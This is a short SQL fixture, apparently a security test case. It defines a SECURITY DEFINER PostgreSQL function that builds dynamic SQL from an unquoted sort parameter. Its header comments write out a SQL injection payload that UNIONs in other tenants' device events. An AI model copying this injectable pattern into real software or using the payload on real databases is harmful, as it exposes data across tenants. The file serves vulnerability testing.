-- The sort column goes into dynamic SQL unquoted with the rights of the owner, so a caller adds a UNION.
-- about: list_events, device_events
-- as: hf_nodeforge_app
-- exploit: SET nodeforge.tenant = '0a000000-0000-4000-8000-00000000000a';
-- exploit: SELECT prov.list_events('at) x UNION ALL SELECT x.event
-- exploit:   FROM (SELECT event FROM device_events');
-- shows: Road-secret person

CREATE FUNCTION prov.list_events(p_sort text) RETURNS SETOF jsonb
LANGUAGE plpgsql STABLE SECURITY DEFINER SET search_path = prov, pg_temp
AS $$
BEGIN
  RETURN QUERY EXECUTE
    'SELECT x.event FROM (SELECT event FROM device_events WHERE tenant_id = tenant() ORDER BY '
    || p_sort || ') x';
END
$$;
REVOKE ALL ON FUNCTION prov.list_events(text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION prov.list_events(text) TO hf_nodeforge_app;
